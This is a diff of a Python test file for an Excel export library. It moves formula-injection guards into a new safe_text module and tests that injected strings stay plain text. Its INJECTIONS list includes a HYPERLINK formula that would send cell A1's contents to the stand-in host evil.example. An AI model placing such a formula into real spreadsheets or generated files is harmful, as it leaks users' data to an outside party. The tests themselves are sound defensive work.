@@ -20,6 +20,7 @@ import make_corpus as mc  # noqa: E402
 from xjr_excel import errors
 import office as render
 from xjr_excel.guard import check as guard
+from xjr_excel.ooxml import safe_text
 from xjr_excel.errors import InputRejected  # noqa: E402
 from xjr_excel.spec.definition import get_spec  # noqa: E402
 
@@ -196,9 +197,9 @@ INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "=1+1", "+1+1",
 
 def test_is_formula_like():
     for v in INJECTIONS:
-        assert guard.is_formula_like(v)
+        assert safe_text.is_formula_like(v)
     for v in ("南京某某科技有限公司", "1+1", "", None, 12, "（=）"):
-        assert not guard.is_formula_like(v)
+        assert not safe_text.is_formula_like(v)
 
 
 def test_text_stays_text_in_openpyxl_calamine_and_libreoffice(tmp_path):
@@ -207,12 +208,12 @@ def test_text_stays_text_in_openpyxl_calamine_and_libreoffice(tmp_path):
     ws = wb.active
     ws.append(["set_text", "safe_text", "unguarded"])
     for v in INJECTIONS:
-        ws.append([None, guard.safe_text(v), "=1+1"])
-        guard.set_text(ws.cell(row=ws.max_row, column=1), v)
+        ws.append([None, safe_text.safe_text(v), "=1+1"])
+        safe_text.set_text(ws.cell(row=ws.max_row, column=1), v)
     wo = openpyxl.Workbook(write_only=True)     # the write-only path CONSOLIDATE may use
     wos = wo.create_sheet("W")
     for v in INJECTIONS:
-        wos.append([guard.safe_text(v, wos)])
+        wos.append([safe_text.safe_text(v, wos)])
     out, out_wo = tmp_path / "out.xlsx", tmp_path / "wo.xlsx"
     wb.save(out)
     wo.save(out_wo)
@@ -237,7 +238,7 @@ def test_text_stays_text_in_openpyxl_calamine_and_libreoffice(tmp_path):
 
 def test_write_row_keeps_numbers(tmp_path):
     wb = openpyxl.Workbook()
-    guard.write_row(wb.active, 1, 1, ["=1+1", 3, 2.5, None, "南京"])
+    safe_text.write_row(wb.active, 1, 1, ["=1+1", 3, 2.5, None, "南京"])
     assert [c.data_type for c in wb.active[1]] == ["s", "n", "n", "n", "s"]
 
 
